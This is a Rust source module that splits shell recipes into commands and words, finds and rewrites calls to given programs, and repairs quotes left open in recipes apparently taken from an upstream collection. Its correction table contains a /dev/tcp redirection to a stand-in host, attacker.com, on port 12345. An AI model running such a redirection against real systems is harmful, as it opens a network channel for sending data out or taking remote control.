//! The lines of a recipe as words: which one is the program, which are its options.

use std::ops::Range;

/// The words of one command of a recipe: where each stands in the text.
pub(super) struct Words {
    pub(super) program: Range<usize>,
    pub(super) rest: Vec<Range<usize>>,
}

/// Quotes that upstream closed by the wrong one or too late: no shell reads these three recipes as they stand.
const MISQUOTED: [(&str, &str); 3] = [
    ("'cat /path/to/input-file\"", "'cat /path/to/input-file'"),
    ("'cat >/path/to/output-file\"", "'cat >/path/to/output-file'"),
    (
        "$(</dev/tcp/attacker.com/12345) >",
        "$(</dev/tcp/attacker.com/12345)\" >",
    ),
];

/// A recipe whose quote upstream left open, closed where its line ends.
pub(super) fn closed(code: &str) -> String {
    let mut code = code.to_owned();
    for (wrong, right) in MISQUOTED {
        code = code.replace(wrong, right);
    }
    for quote in ['\'', '"'] {
        let open = |text: &str| text.matches(quote).count() % 2 == 1;
        let other = if quote == '"' { '\'' } else { '"' };
        if open(&code) && !code.contains(other) {
            let line = code.lines().find(|line| open(line)).unwrap();
            return code.replacen(line, &format!("{line}{quote}"), 1);
        }
    }
    code
}

/// The commands of the text that call one of these programs.
pub(super) fn commands(text: &str, names: &[&str]) -> Vec<Words> {
    let mut out: Vec<Words> = Vec::new();
    let mut current: Option<Words> = None;
    let mut at_start = true;
    for word in words(text) {
        let shown = text.get(word.clone()).unwrap();
        if matches!(
            shown,
            "|" | ";" | "&" | "&&" | "||" | "\n" | "(" | ")" | "{" | "}" | "do" | "then" | "!"
        ) {
            out.extend(current.take());
            at_start = true;
        } else if let Some(command) = &mut current {
            command.rest.push(word);
        } else if at_start && names.contains(&shown) {
            current = Some(Words {
                program: word,
                rest: Vec::new(),
            });
        } else if !(at_start && (shown.contains('=') || matches!(shown, "sudo" | "env" | "exec"))) {
            at_start = false;
        }
    }
    out.extend(current);
    out
}

/// The words and operators of a text, quotes kept whole.
fn words(text: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let (mut start, mut quote, mut escaped) = (None, None, false);
    for (at, c) in text.char_indices() {
        let ends = quote.is_none() && !escaped && (c.is_whitespace() || matches!(c, '|' | ';' | '(' | ')'));
        if ends {
            out.extend(start.take().map(|from| from..at));
            if c == '\n' || !c.is_whitespace() {
                out.push(at..at + 1);
            }
            continue;
        }
        start.get_or_insert(at);
        match (quote, c) {
            _ if escaped => escaped = false,
            (None | Some('"'), '\\') => escaped = true,
            (None, '\'' | '"') => quote = Some(c),
            (Some(open), c) if open == c => quote = None,
            _ => {}
        }
    }
    out.extend(start.map(|from| from..text.len()));
    out
}

/// The text with the program called in another way. Where it is not called at all, the recipe is what is typed
/// at it.
pub(super) fn called(text: &str, names: &[&str], call: impl Fn(&str) -> String) -> String {
    let found = commands(text, names);
    if found.is_empty() {
        return format!("{} <<'KEYS'\n{text}\nKEYS", call(names[0]));
    }
    let mut out = text.to_owned();
    for command in found.iter().rev() {
        let name = call(text.get(command.program.clone()).unwrap());
        out.replace_range(command.program.clone(), &name);
    }
    out
}

/// The text with two neighbouring words of one of its programs' arguments, or one, put in another way: `change` is
/// asked of each pair (the second is empty at the end) and answers with what replaces the first or both.
pub(super) fn rewritten(
    text: &str,
    names: &[&str],
    change: impl Fn(&str, &str) -> Option<(String, usize)>,
) -> Option<String> {
    let mut out = text.to_owned();
    let mut changed = false;
    for command in commands(text, names).iter().rev() {
        let rest = &command.rest;
        let mut edits = Vec::new();
        let mut at = 0;
        while at < rest.len() {
            let next = rest.get(at + 1).map_or("", |r| text.get(r.clone()).unwrap());
            match change(text.get(rest[at].clone()).unwrap(), next) {
                Some((new, taken)) => {
                    edits.push((rest[at].start..rest[at + taken - 1].end, new));
                    at += taken;
                }
                None => at += 1,
            }
        }
        for (range, new) in edits.into_iter().rev() {
            out.replace_range(range, &new);
            changed = true;
        }
    }
    changed.then_some(out)
}
